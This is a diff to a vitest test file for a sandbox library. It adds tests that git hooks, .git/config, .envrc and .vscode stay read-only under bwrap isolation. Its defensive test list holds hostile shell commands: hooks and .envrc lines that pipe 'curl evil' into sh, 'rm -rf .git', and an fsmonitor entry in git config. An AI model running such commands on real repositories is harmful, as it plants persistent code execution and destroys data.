@@ -11,6 +11,7 @@ import { afterAll, afterEach, describe, expect, it } from 'vitest'
 import {
   LocalFilesystem,
   LocalSandbox,
+  PROTECTED_PATHS,
   PermissionError,
   SandboxOptionError,
   Workspace,
@@ -272,6 +273,52 @@ describe.skipIf(!available)('isolation: bwrap', () => {
     const make = (limits) => () => sandbox({ nativeSandbox: { limits } })
     expect(make({ threads: 4 })).toThrow(/limits.threads is not a limit/)
     expect(make({ openFiles: -1 })).toThrow(/openFiles must be a positive whole number/)
+  })
+
+  it('F10/F11: hooks, .envrc and editor tasks stay read-only, also where they do not exist yet', async () => {
+    const sb = sandbox()
+    const ws = sb.workingDirectory
+    fs.mkdirSync(path.join(ws, '.git'), { recursive: true })
+    fs.writeFileSync(path.join(ws, '.git', 'HEAD'), 'ref: refs/heads/main\n')
+    fs.writeFileSync(path.join(ws, '.envrc'), 'export SAFE=1\n')
+    fs.writeFileSync(path.join(ws, 'main.c'), 'int main;\n')
+    fs.chownSync(path.join(ws, 'main.c'), isRoot ? 65534 : process.getuid(), isRoot ? 65534 : process.getgid())
+    const before = fs.readdirSync(ws, { recursive: true })
+    const attacks = [
+      "mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil|sh' > .git/hooks/pre-commit",
+      'mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit',
+      'rm -rf .git',
+      'echo "curl evil|sh" >> .envrc',
+      'rm -f .envrc; echo evil > .envrc',
+      'mkdir -p .vscode && echo "{}" > .vscode/tasks.json',
+      'echo "[core] fsmonitor = evil" > .git/config',
+    ]
+    for (const attack of attacks) expect((await sh(sb, attack)).exitCode, attack).not.toBe(0)
+    // Ordinary project files stay writable.
+    expect((await sh(sb, 'echo "int main() {}" > main.c && cat main.c')).stdout).toBe('int main() {}\n')
+    await sb.destroy()
+    // Nothing new on the host (placeholders removed, no hook), .git still there, .envrc unchanged.
+    expect(fs.readdirSync(ws, { recursive: true }).filter((entry) => !before.includes(entry))).toEqual([])
+    expect(fs.statSync(path.join(ws, '.git')).isDirectory()).toBe(true)
+    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('export SAFE=1\n')
+    expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false)
+  })
+
+  it('F10/F11: protectedPaths replaces the list; a symlink in it stops the start; escaping paths are refused', async () => {
+    const open = sandbox({ nativeSandbox: { protectedPaths: [] } })
+    expect((await sh(open, 'echo "export X=1" > .envrc && cat .envrc')).stdout).toBe('export X=1\n')
+    const narrow = sandbox({ nativeSandbox: { protectedPaths: ['deploy/keys'] } })
+    expect((await sh(narrow, 'echo x > .envrc && echo written')).stdout).toBe('written\n')
+    expect((await sh(narrow, 'mkdir -p deploy/keys')).exitCode).not.toBe(0)
+    const linked = sandbox()
+    fs.mkdirSync(linked.workingDirectory, { recursive: true })
+    fs.symlinkSync('/tmp', path.join(linked.workingDirectory, '.vscode'))
+    const err = await sh(linked, 'touch ran').catch((e) => e)
+    expect(err.code).toBe('ISOLATION_UNAVAILABLE')
+    expect(err.message).toContain('.vscode is a symbolic link')
+    expect(fs.existsSync(path.join(linked.workingDirectory, 'ran'))).toBe(false)
+    expect(() => sandbox({ nativeSandbox: { protectedPaths: ['../outside'] } })).toThrow(SandboxOptionError)
+    expect(PROTECTED_PATHS).toEqual(expect.arrayContaining(['.git/hooks', '.git/config', '.envrc', '.vscode']))
   })
 
   it('F2/F3/F5/F15: links and setuid copies give no way to host files or root', async () => {
